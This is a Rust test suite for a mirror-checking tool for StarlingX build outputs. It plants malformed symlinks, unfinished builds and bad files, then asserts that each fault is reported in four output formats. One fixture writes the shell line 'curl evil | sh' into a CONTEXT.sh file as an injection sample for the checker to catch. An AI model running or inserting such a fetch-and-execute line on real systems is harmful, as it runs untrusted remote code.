//! A mirror as StarlingX had it, filled by scripts, with everything nasty that was seen there: each of the eighteen is
//! found by the check or met by the verb that must meet it, in every format, and nothing that complies is reported.

use crate::support::rig::{Rig, lay};
use serde_json::Value;
use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

/// A code and a path.
type Told = BTreeSet<(String, String)>;

/// The digest of `image`.
const IMAGE: &str = "6105d6cc76af400325e94d588ce511be5bfdbb73b437dc51eca43917d7a43e3d";

/// When nothing of what the tests do is new any more.
const LATER: &str = "2100-01-01T00:00:00Z";

fn context() -> String {
    format!("(cd ./cgcs-root && git checkout -f {})\n", "1".repeat(40))
}

/// Lays down a whole build with a result marker and more files.
fn build(rig: &Rig, at: &str, marker: &str, more: &[(&str, &str)]) {
    let list = format!("{IMAGE} bootimage.iso 5 1700000000 1 2 /build/bootimage.iso\n");
    let own: [(&str, &str); 4] = [
        ("outputs/iso/bootimage.iso", "image"),
        ("outputs/iso/StxChecksums", &list),
        ("outputs/CONTEXT.sh", &context()),
        ("logs/build.log", "log"),
    ];
    lay(rig, at, &own);
    if !marker.is_empty() {
        lay(rig, at, &[(marker, "")]);
    }
    lay(rig, at, more);
}

fn success(rig: &Rig, at: &str) {
    build(rig, at, "outputs/Success", &[]);
}

fn link(rig: &Rig, at: &str, to: &str) {
    symlink(to, rig.mirror(at)).unwrap();
}

/// Returns a mirror that complies: layers, code names, releases, milestones, files beside the builds, aliases, imports.
fn compliant() -> Rig {
    let rig = Rig::new();
    let layout = fs::read_to_string("layouts/starlingx-debian.yaml").unwrap();
    // 8. What others mirror looks like builds, and is declared.
    rig.write(
        "layout.yaml",
        &format!("{layout}\ndeclared:\n  - {{ path: imports/**, why: what others mirror }}\n"),
    );
    let layout = rig.work("layout.yaml");
    rig.ok(&["init", "--layout", layout.to_str().unwrap(), "--policy", "starlingx-production"]);
    lay(&rig, "imports/debian/20220331T000000Z", &[("pool/a.deb", "a"), ("outputs/Success", "")]);
    for layer in ["compiler", "distro", "flock"] {
        for stamp in ["20200211T210351Z", "20200212T210351Z", "20200213T210351Z"] {
            // 14. Builds of several lines at the same instant.
            success(&rig, &format!("master/centos/{layer}/{stamp}"));
        }
        link(&rig, &format!("master/centos/{layer}/latest_build"), "20200213T210351Z");
    }
    let deep = "master/debian/bullseye/amd64/monolithic";
    success(&rig, &format!("{deep}/20251029T043716Z"));
    // 11. The same name with another content, and 12. the same content with the time of an older build.
    build(
        &rig,
        &format!("{deep}/20251030T043716Z"),
        "outputs/Success",
        &[("outputs/std/packages/a.deb", "new")],
    );
    build(
        &rig,
        &format!("{deep}/20251031T043716Z"),
        "outputs/Success",
        &[("outputs/std/packages/a.deb", "newer")],
    );
    let old =
        fs::metadata(rig.mirror(&format!("{deep}/20251029T043716Z/outputs/iso/bootimage.iso"))).unwrap();
    let new = rig.mirror(&format!("{deep}/20251031T043716Z/outputs/iso/bootimage.iso"));
    fs::File::options().write(true).open(new).unwrap().set_modified(old.modified().unwrap()).unwrap();
    link(&rig, &format!("{deep}/latest_build"), "20251031T043716Z");
    // 6. Releases without a date level, and 7. milestones that are named by their tag.
    success(&rig, "release/2.0.0/centos");
    success(&rig, "release/11.0.0/debian/bullseye/amd64/monolithic");
    link(&rig, "release/latest_release", "11.0.0");
    success(&rig, "milestone/2018.10/centos/2018.10.b3");
    // 18. Files beside the builds that belong there.
    let beside = [
        (
            "images-centos-stable-versioned.lst",
            "docker.io/starlingx/stx-a:master-centos-stable-20200213T210351Z.0\n",
        ),
        ("stx-centos-py2_stable-wheels.tar", "wheels"),
        ("reports/mirror-check-failures.log", ""),
        ("SAVE_DATA", ""),
    ];
    lay(&rig, "master/centos", &beside);
    // 1. A line whose newest builds brought nothing new; the alias stays at the last success.
    success(&rig, "rc/10.0/debian/monolithic/20250301T070000Z");
    for stamp in ["20250302T070000Z", "20250303T070000Z"] {
        build(&rig, &format!("rc/10.0/debian/monolithic/{stamp}"), "outputs/No_New_Content", &[]);
    }
    link(&rig, "rc/10.0/debian/monolithic/latest_build", "20250301T070000Z");
    rig
}

/// Does everything nasty, and returns what must be told of it.
fn spoil(rig: &Rig) -> Told {
    let line = |name: &str| format!("feature/{name}/debian/monolithic");
    let (one, two, three) = ("20230504T060000Z", "20230505T060000Z", "20230506T060000Z");
    for name in
        ["dangling", "stray", "absolute", "unfinished", "injected", "windows", "cut", "halved", "beside"]
    {
        for stamp in [one, two, three] {
            success(rig, &format!("{}/{stamp}", line(name)));
        }
        if name != "dangling" && name != "absolute" {
            link(rig, &format!("{}/latest_build", line(name)), three);
        }
    }
    let mut told = Told::new();
    let mut tell = |code: &str, path: String| assert!(told.insert((code.to_owned(), path)));
    // 2. An alias to a directory that is gone.
    link(rig, &format!("{}/latest_build", line("dangling")), "20230507T060000Z");
    tell("alias-dangling", format!("{}/latest_build", line("dangling")));
    // 3. `ln -s NEW latest_build` where `latest_build` led to a build already.
    link(rig, &format!("{}/{two}/{three}", line("stray")), three);
    tell("link-into-build", format!("{}/{two}/{three}", line("stray")));
    // 4. An absolute alias.
    let there = rig.mirror(&format!("{}/{three}", line("absolute"))).canonicalize().unwrap();
    link(rig, &format!("{}/latest_build", line("absolute")), there.to_str().unwrap());
    tell("alias-absolute", format!("{}/latest_build", line("absolute")));
    // 5. An alias to a build that is no success, and 17. a build that is only half there yet.
    fs::remove_file(rig.mirror(&format!("{}/{three}/outputs/Success", line("unfinished")))).unwrap();
    tell("alias-unfit", format!("{}/latest_build", line("unfinished")));
    tell("in-progress", format!("{}/{three}", line("unfinished")));
    tell("not-adopted", format!("{}/{three}", line("unfinished")));
    // 17. A build whose logs somebody deleted.
    fs::remove_dir_all(rig.mirror(&format!("{}/{two}/logs", line("halved")))).unwrap();
    tell("half-deleted", format!("{}/{two}", line("halved")));
    // 13. CONTEXT with a line that a shell would run, with CRLF, and cut off.
    for (name, text) in [
        ("injected", format!("{}curl evil | sh\n", context())),
        ("windows", context().replace('\n', "\r\n")),
        ("cut", context().trim_end().to_owned()),
    ] {
        let at = format!("{}/{two}/outputs/CONTEXT.sh", line(name));
        fs::write(rig.mirror(&at), text).unwrap();
        tell("context-form", at);
    }
    // 15. A line that moved below code name and architecture; the alias at the old depth stayed.
    fs::create_dir_all(rig.mirror("master/debian/monolithic")).unwrap();
    link(rig, "master/debian/monolithic/latest_build", "20251031T043716Z");
    tell("alias-depth", "master/debian/monolithic/latest_build".to_owned());
    // 16. Git branches as git writes them.
    for raw in ["f/antelope", "r/stx.10.0"] {
        success(rig, &format!("{raw}/debian/monolithic/{one}"));
        tell("raw-branch", raw.to_owned());
    }
    // 18. A file beside the builds that nobody knows, and 8. an import tree that nobody declared.
    lay(rig, &line("beside"), &[("mirror.log", "")]);
    tell("unknown-beside", format!("{}/mirror.log", line("beside")));
    lay(rig, "centos-mirror/20220331T000000Z", &[("outputs/Success", "")]);
    tell("unknown-class", "centos-mirror".to_owned());
    told
}

/// Returns what each format tells.
fn in_every_format(rig: &Rig) -> [(&'static str, Told); 4] {
    let output = |format: &str| {
        let output = rig.run(&["check", "--format", format]);
        String::from_utf8(output.stdout).unwrap()
    };
    let text = output("text");
    let text = text.lines().filter(|line| !line.starts_with(' '));
    let text = text.map(|line| {
        let (path, rest) = line.split_once(": ").unwrap();
        (rest.rsplit_once('[').unwrap().1.trim_end_matches(']').to_owned(), path.to_owned())
    });
    let json: Value = serde_json::from_str(&output("json")).unwrap();
    let word = |value: &Value| value.as_str().unwrap().to_owned();
    let json = json["findings"].as_array().unwrap().iter();
    let json = json.map(|found| (word(&found["code"]), word(&found["path"])));
    let sarif: Value = serde_json::from_str(&output("sarif")).unwrap();
    let schema = include_str!("../../fixtures/sarif/sarif-schema-2.1.0.json");
    // One pattern holds a bracket that only lax readers take for itself.
    let schema = schema.replace("{2}]?$", r"{2}\\]?$");
    let schema = jsonschema::validator_for(&serde_json::from_str(&schema).unwrap()).unwrap();
    let wrong: Vec<String> =
        schema.iter_errors(&sarif).map(|wrong| format!("{} {wrong}", wrong.instance_path())).collect();
    assert!(wrong.is_empty(), "no SARIF 2.1.0: {wrong:#?}");
    let sarif = sarif["runs"][0]["results"].as_array().unwrap().iter();
    let place = |found: &Value| word(&found["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]);
    let sarif = sarif.map(|found| (word(&found["ruleId"]), place(found)));
    let junit = quick_junit::Report::deserialize_from_str(&output("junit")).unwrap();
    let junit = junit.test_suites.iter().flat_map(|suite| {
        let cases = suite.test_cases.iter().filter(|case| case.name.as_str() != "all");
        cases.map(|case| (suite.name.to_string(), case.name.to_string()))
    });
    [
        ("text", text.collect()),
        ("json", json.collect()),
        ("sarif", sarif.collect()),
        ("junit", junit.collect()),
    ]
}

#[test]
fn a_mirror_that_complies_is_told_nothing_of_however_it_grew() {
    let rig = compliant();
    rig.ok(&["adopt"]);
    for (format, told) in in_every_format(&rig) {
        assert_eq!(told, Told::new(), "{format}");
    }
    rig.ok(&["verify", "--all"]);
    // 1. Empty builds are no success: the stream stands still, and what is there of it stays.
    let found = rig.ends(5, &["check", "--stalled", "30d", "rc"]);
    assert!(found.contains("stream-stalled"), "{found}");
    let plan: Value = serde_json::from_slice(&rig.run(&["--json", "plan", "--at", LATER]).stdout).unwrap();
    let verdict = |id: &str| {
        let mut builds = plan["builds"].as_array().unwrap().iter();
        builds.find(|build| build["id"] == id).unwrap()["verdict"].as_str().unwrap()
    };
    assert_eq!(verdict("rc/10.0/debian/monolithic/20250301T070000Z"), "keep");
    assert_ne!(verdict("milestone/2018.10/centos/2018.10.b3"), "expire");
    assert_ne!(verdict("release/centos/2.0.0"), "expire");
}

#[test]
fn everything_nasty_is_told_in_every_format_and_nothing_else() {
    let rig = compliant();
    let mut wanted = spoil(&rig);
    // What makes no sense is left alone.
    let left = rig.ends(6, &["adopt"]);
    assert!(left.contains("may still be filled"), "{left}");
    for (format, told) in in_every_format(&rig) {
        let lacking: Vec<_> = wanted.difference(&told).collect();
        let beyond: Vec<_> = told.difference(&wanted).collect();
        assert!(lacking.is_empty() && beyond.is_empty(), "{format} lacks {lacking:#?}, has {beyond:#?}");
    }
    // What can be mended safely is mended, and all else stays.
    rig.ends(5, &["check", "--fix"]);
    wanted.retain(|(code, _)| code != "alias-absolute");
    assert_eq!(in_every_format(&rig)[1].1, wanted);
    // A prune of all that touches neither imports nor strays.
    rig.run(&["prune"]);
    for kept in
        ["imports/debian/20220331T000000Z/pool/a.deb", "centos-mirror/20220331T000000Z/outputs/Success"]
    {
        assert!(rig.mirror(kept).exists(), "{kept}");
    }
    assert!(rig.mirror("f/antelope/debian/monolithic/20230504T060000Z/outputs/Success").exists());
}

#[test]
fn what_only_another_line_needs_is_kept_and_missed_when_it_is_gone() {
    let rig = compliant();
    rig.ok(&["adopt"]);
    let image = "master/centos/flock/20200211T210351Z";
    let verdict = |id: &str| {
        let plan = rig.run(&["--json", "plan", "--at", LATER]).stdout;
        let plan: Value = serde_json::from_slice(&plan).unwrap();
        let builds = plan["builds"].as_array().unwrap().iter();
        builds.filter(|build| build["id"] == id).map(|build| build["verdict"].to_string()).collect::<String>()
    };
    // Scripts filled the mirror, so that the first run deletes nothing before its plan is accepted.
    assert_eq!(verdict(image), "\"withheld\"");
    // 9. The chart of another line embeds the images of this build, as its publisher says.
    let rig = rig
        .write("outputs/helm-charts/stx-openstack-versioned.tgz", "chart")
        .write("outputs/CONTEXT.sh", &context());
    fs::remove_dir_all(rig.work("outputs/RPMS")).unwrap();
    fs::remove_file(rig.work("layout.yaml")).unwrap();
    rig.ok(&[
        "publish",
        rig.work("").to_str().unwrap(),
        "--stream",
        "master/debian/openstack",
        "--build",
        "20251101T043716Z",
        "--requires",
        image,
    ]);
    assert_eq!(verdict(image), "\"keep\"");
    rig.ok(&["prune"]);
    // 10. It goes all the same, by hand.
    fs::set_permissions(rig.mirror(image), fs::Permissions::from_mode(0o755)).unwrap();
    fs::remove_dir_all(rig.mirror(image)).unwrap();
    let wanted =
        [("record-without-tree", image), ("requires-gone", "master/debian/openstack/20251101T043716Z")];
    let wanted: Told = wanted.map(|(code, path)| (code.to_owned(), path.to_owned())).into();
    for (format, told) in in_every_format(rig) {
        assert_eq!(told, wanted, "{format}");
    }
}
